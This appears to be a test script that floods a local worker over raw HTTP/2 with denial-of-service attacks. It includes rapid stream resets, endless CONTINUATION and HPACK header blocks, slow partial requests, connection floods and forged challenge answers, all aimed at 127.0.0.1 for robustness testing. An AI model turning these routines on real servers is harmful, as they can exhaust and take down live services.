#!/usr/bin/env python3
"""What clients without a token may try against a worker, in bytes of HTTP/2 and without gRPC; for tests on loopback.

Usage: attacks.py NAME PORT SECONDS

Attacks the worker of the test at 127.0.0.1:PORT for so long, then closes everything and prints what it did. A connection that the
worker closes is opened again. Bounded: at most MOST_CONNECTIONS at a time, and as much memory as the buffers below have.
"""
import os
import resource
import select
import socket
import struct
import sys
import time

MOST_CONNECTIONS = 1500
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_HEADERS = 1, 4
MIB = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field of HPACK that enters no table."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path=b"/cornu.remote.v1.Transfers/Write"):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"worker"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(literal(name, value) for name, value in fields)


def opened(port):
    """A connection, or None where there is none at the moment."""
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.settimeout(1)
    try:
        link.connect(("127.0.0.1", port))
        return link
    except OSError:
        link.close()
        return None


class Http2:
    """A connection that keeps to the flow control of HTTP/2, so that the other side takes what it sends."""

    def __init__(self, port):
        self.link = opened(port)
        self.is_open = self.link is not None
        self.received = b""
        self.first_window = 65535
        self.window = 65535
        self.windows = {}
        if self.is_open:
            self.link.setblocking(False)
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def close(self):
        if self.link is not None:
            self.link.close()
        self.is_open = False

    def send(self, data):
        """Waits for a moment where the socket is full. False: the other side has gone, or takes nothing."""
        view = memoryview(data)
        end = time.monotonic() + 0.2
        while view and self.is_open:
            try:
                view = view[self.link.send(view):]
            except BlockingIOError:
                self.take_in()
                if time.monotonic() > end:
                    self.close()
                select.select([], [self.link] if self.is_open else [], [], 0.05)
            except OSError:
                self.close()
        return self.is_open

    def take_in(self):
        try:
            while self.is_open:
                data = self.link.recv(65536)
                if not data:
                    self.close()
                self.received += data
        except BlockingIOError:
            pass
        except OSError:
            self.close()
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload, self.received = self.received[9:9 + size], self.received[9 + size:]
            self.take_frame(kind, flags, stream, payload)

    def take_frame(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload) - 5, 6):
                name, value = struct.unpack(">HI", payload[at:at + 6])
                if name == 4:
                    self.windows = {s: w + value - self.first_window for s, w in self.windows.items()}
                    self.first_window = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == RST_STREAM:
            self.windows.pop(stream, None)

    def begin(self, stream):
        self.windows[stream] = self.first_window
        return self.send(frame(HEADERS, END_HEADERS, stream, call_headers()))

    def send_data(self, stream, data):
        """As much as the windows let through."""
        size = min(len(data), self.window, self.windows.get(stream, 0), 16384)
        if size <= 0 or not self.send(frame(DATA, 0, stream, data[:size])):
            return 0
        self.window -= size
        if stream in self.windows:
            self.windows[stream] -= size
        return size


def unfinished_writes(port, end):
    """Messages of 64 MiB whose last byte never comes, sixteen on each of four connections."""
    message = b"\0" + struct.pack(">I", 64 * MIB)
    zeros = bytes(16384)
    sent = {}
    links = []
    total = 0
    while time.monotonic() < end:
        links = [link for link in links if link.is_open]
        while len(links) < 4:
            link = Http2(port)
            links.append(link)
            for stream in range(1, 33, 2):
                if link.begin(stream):
                    link.send_data(stream, message)
                    sent[id(link), stream] = 0
        before = total
        for link in links:
            link.take_in()
            for stream in list(link.windows):
                if sent.get((id(link), stream), 0) < 63 * MIB:
                    size = link.send_data(stream, zeros)
                    sent[id(link), stream] = sent.get((id(link), stream), 0) + size
                    total += size
        if total == before:
            time.sleep(0.01)
    for link in links:
        link.close()
    return f"{total} bytes of messages without an end"


def silent_connections(port, end):
    """Connections that say nothing, as many as there may be."""
    links, count = [], 0
    while time.monotonic() < end:
        while len(links) < MOST_CONNECTIONS and time.monotonic() < end:
            link = opened(port)
            if link is None:
                break
            links.append(link)
            count += 1
        # Those that the worker has closed are opened again.
        time.sleep(0.05)
        poll = select.poll()
        by_number = {link.fileno(): link for link in links}
        for number in by_number:
            poll.register(number, select.POLLIN)
        for number, _ in poll.poll(0):
            links.remove(by_number[number])
            by_number[number].close()
    for link in links:
        link.close()
    return f"{count} connections, {len(links)} of them open at the end"


def connect_flood(port, end):
    """Connections that are closed at once."""
    count = 0
    while time.monotonic() < end:
        link = opened(port)
        if link is not None:
            link.close()
            count += 1
    return f"{count} connections"


def rapid_reset(port, end):
    """Streams that are reset as soon as they were begun."""
    headers = call_headers()
    count, link, stream = 0, None, 1
    while time.monotonic() < end:
        if link is None or not link.is_open or stream > 1 << 30:
            link, stream = Http2(port), 1
        burst = b""
        for _ in range(50):
            burst += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        if link.send(burst):
            count += 50
        link.take_in()
        if not link.is_open:
            time.sleep(0.001)
    if link is not None:
        link.close()
    return f"{count} streams"


def endless_headers(port, end, begin, more):
    """A block of fields that never ends."""
    total, link = 0, None
    while time.monotonic() < end:
        if link is None or not link.is_open:
            link = Http2(port)
            link.send(frame(HEADERS, 0, 1, begin))
        if link.send(frame(CONTINUATION, 0, 1, more)):
            total += len(more)
        link.take_in()
        if not link.is_open:
            time.sleep(0.001)
    if link is not None:
        link.close()
    return f"{total} bytes of fields"


def hpack_literal(port, end):
    """A field's value of 1 GiB."""
    size = (1 << 30) - 127
    coded = b"\x7f"
    while size >= 128:
        coded += bytes([size % 128 + 128])
        size //= 128
    return endless_headers(port, end, b"\0\x01x" + coded + bytes([size]), bytes(16384))


def hpack_integer(port, end):
    """A field's length that never ends."""
    return endless_headers(port, end, b"\0\x7f", b"\x80" * 16384)


def slow_admission(port, end):
    """The first exchange, a byte now and then, on many connections."""
    request = b"CONNECT cornu HTTP/1.0\r\ncornu-admission: " + b"0" * 600
    links, count = [], 0
    while time.monotonic() < end:
        while len(links) < 400:
            link = opened(port)
            if link is None:
                break
            links.append([link, 0])
            count += 1
        for entry in list(links):
            try:
                entry[0].send(request[entry[1] % len(request):][:1])
                entry[1] += 1
            except OSError:
                entry[0].close()
                links.remove(entry)
        time.sleep(0.05)
    for link, _ in links:
        link.close()
    return f"{count} connections"


def exchange(port, request):
    link = opened(port)
    if link is None:
        return b""
    try:
        link.sendall(request)
        return link.recv(2000)
    except OSError:
        return b""
    finally:
        link.close()


def wrong_proofs(port, end):
    """Answers to challenges by who does not know the token."""
    count, admitted = 0, 0
    while time.monotonic() < end:
        answer = exchange(port, b"GET /cornu HTTP/1.0\r\n\r\n")
        challenge = answer.partition(b"cornu-challenge: ")[2].partition(b"\r")[0]
        request = b"CONNECT cornu HTTP/1.0\r\ncornu-admission: " + challenge + b" " + os.urandom(32).hex().encode()
        admitted += exchange(port, request + b"\r\n\r\n").startswith(b"HTTP/1.0 200")
        count += 1
    return f"{count} answers, {admitted} of them admitted"


def no_protocol(port, end):
    """Bytes that mean nothing, and requests without an end."""
    count = 0
    while time.monotonic() < end:
        for begin in (b"", b"GET /cornu HTTP/1.0\r\n", b"CONNECT ", b"\x16\x03\x01\x02\x00", PREFACE):
            exchange(port, begin + os.urandom(20000))
            count += 1
    return f"{count} connections"


ATTACKS = {attack.__name__: attack for attack in (unfinished_writes, silent_connections, connect_flood, rapid_reset, hpack_literal,
                                                  hpack_integer, slow_admission, wrong_proofs, no_protocol)}


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 2 * MOST_CONNECTIONS)), hard))
    print(f"{name}: {ATTACKS[name](port, time.monotonic() + seconds)}", flush=True)


if __name__ == "__main__":
    main()
